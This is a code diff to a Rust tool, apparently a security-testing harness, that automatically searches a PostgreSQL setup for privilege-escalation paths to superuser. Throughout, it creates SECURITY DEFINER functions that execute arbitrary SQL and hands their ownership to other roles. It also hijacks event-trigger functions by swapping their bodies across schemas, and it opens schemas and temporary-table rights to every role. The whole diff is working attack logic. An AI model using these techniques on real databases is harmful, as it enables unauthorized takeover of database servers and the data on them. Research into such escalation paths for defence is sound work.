@@ -91,10 +91,17 @@ pub async fn attack(server: &Server, world: &World, login: &str) -> Reached {
         entered: BTreeSet::new(),
         counter: 0,
     };
+    // What two logins do in one database differs by what was granted and taken before.
+    let mut tried: BTreeMap<(String, &str), [usize; 2]> = BTreeMap::new();
     loop {
         let before = attack.progress();
         for login in attack.logins.clone() {
             for database in DATABASES {
+                let (key, state) = ((login.clone(), database), [attack.logins.len(), attack.granted.len()]);
+                if attack.entered.contains(&key) && tried.get(&key) == Some(&state) {
+                    continue;
+                }
+                tried.insert(key, state);
                 attack.enter(&login, database).await;
                 // Everything else follows from it.
                 if attack.found.is_superuser() {
@@ -141,7 +148,11 @@ impl Attack<'_> {
     /// Every frame that can be had, until there is no new one.
     async fn expand(&mut self, session: &mut PgConnection, database: &str, contexts: &mut Vec<Context>) {
         let world = self.world;
+        let mut fresh = 0;
         loop {
+            for context in &contexts[fresh..] {
+                open_places(session, context).await;
+            }
             let known: BTreeSet<String> =
                 contexts.iter().filter(|one| one.is_frame).map(|one| one.role.clone()).collect();
             let mut new: BTreeMap<String, Context> = BTreeMap::new();
@@ -154,14 +165,13 @@ impl Attack<'_> {
                     new.entry(thing.owner.clone()).or_insert(context);
                 }
             }
-            for role in roles().into_iter().filter(|role| !known.contains(*role)) {
-                if let Some(context) = self.given_away(session, contexts, role).await {
-                    new.entry(role.into()).or_insert(context);
-                }
+            for context in &contexts[fresh..] {
+                self.give_away(session, context, &known, &mut new).await;
             }
             if new.is_empty() {
                 return;
             }
+            fresh = contexts.len();
             contexts.extend(new.into_values());
         }
     }
@@ -237,27 +247,38 @@ impl Attack<'_> {
         None
     }
 
-    /// A function of one's own that is given to a role: it runs as that role from then on.
-    async fn given_away(
+    /// Functions of one's own that are given to roles: each runs as its new owner from then on.
+    async fn give_away(
         &mut self,
         session: &mut PgConnection,
-        contexts: &[Context],
-        role: &str,
-    ) -> Option<Context> {
-        for context in contexts {
-            for schema in PLACES {
-                self.counter += 1;
-                let name = format!("{schema}.f{}", self.counter);
-                let make = format!(
-                    "CREATE FUNCTION {name}(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE q; END'; ALTER FUNCTION {name} OWNER TO {role}"
-                );
-                let given = context.frame(role, "", format!("SELECT {name}({{}})"));
-                if works(session, &context.sql(&make)).await && works(session, &given.sql("SELECT 1")).await {
-                    return Some(given);
+        context: &Context,
+        known: &BTreeSet<String>,
+        new: &mut BTreeMap<String, Context>,
+    ) {
+        for schema in PLACES {
+            let mut own = None;
+            for role in roles().into_iter().filter(|role| !known.contains(*role)) {
+                if new.contains_key(role) {
+                    continue;
+                }
+                if own.is_none() {
+                    self.counter += 1;
+                    let name = format!("{schema}.f{}", self.counter);
+                    let make = format!(
+                        "CREATE FUNCTION {name}(q text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS 'BEGIN EXECUTE q; END'"
+                    );
+                    own = works(session, &context.sql(&make)).await.then_some(name);
+                }
+                let Some(name) = &own else { break };
+                if works(session, &context.sql(&format!("ALTER FUNCTION {name} OWNER TO {role}"))).await {
+                    let given = context.frame(role, "", format!("SELECT {name}({{}})"));
+                    if works(session, &given.sql("SELECT 1")).await {
+                        new.insert(role.into(), given);
+                    }
+                    own = None;
                 }
             }
         }
-        None
     }
 
     async fn act(&mut self, session: &mut PgConnection, database: &str, context: &Context) {
@@ -306,13 +327,21 @@ impl Attack<'_> {
         for thing in
             world.things.iter().filter(|thing| thing.kind == Kind::Event && thing.database == database)
         {
-            let name = &thing.name;
-            let make = format!("CREATE OR REPLACE FUNCTION {name}() RETURNS event_trigger {body}");
-            if !self.found.visits.contains(database) && self.tries(session, context, &make).await {
-                let mend = format!(
-                    "CREATE OR REPLACE FUNCTION {name}() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'"
-                );
-                self.visit(database, "CREATE TEMP TABLE visit ()", &mend).await;
+            let (home, name) = thing.name.split_once('.').unwrap();
+            let replace = |schema: &str, body: &str| {
+                format!("CREATE OR REPLACE FUNCTION {schema}.{name}() RETURNS event_trigger {body}")
+            };
+            let mend = |schema: &str| {
+                let back = format!("ALTER FUNCTION {schema}.{name}() SET SCHEMA {home}");
+                format!("{}; {back}", replace(schema, "LANGUAGE plpgsql AS 'BEGIN END'"))
+            };
+            for schema in [home, "public", "s0", "s1"] {
+                let there =
+                    format!("ALTER FUNCTION {home}.{name}() SET SCHEMA {schema}; {}", replace(schema, body));
+                let make = if schema == home { replace(home, body) } else { there };
+                if !self.found.visits.contains(database) && self.tries(session, context, &make).await {
+                    self.visit(database, "CREATE TEMP TABLE visit ()", &mend(schema)).await;
+                }
             }
         }
     }
@@ -395,6 +424,16 @@ impl Attack<'_> {
             self.found.trace.push(sql);
         }
         is_done
+    }
+}
+
+/// Lets every role create where the context decides about it; with a warning alone where it does not.
+async fn open_places(session: &mut PgConnection, context: &Context) {
+    for schema in ["public", "s0", "s1"] {
+        works(session, &context.sql(&format!("GRANT ALL ON SCHEMA {schema} TO PUBLIC"))).await;
+    }
+    for database in DATABASES {
+        works(session, &context.sql(&format!("GRANT TEMPORARY ON DATABASE {database} TO PUBLIC"))).await;
     }
 }
 
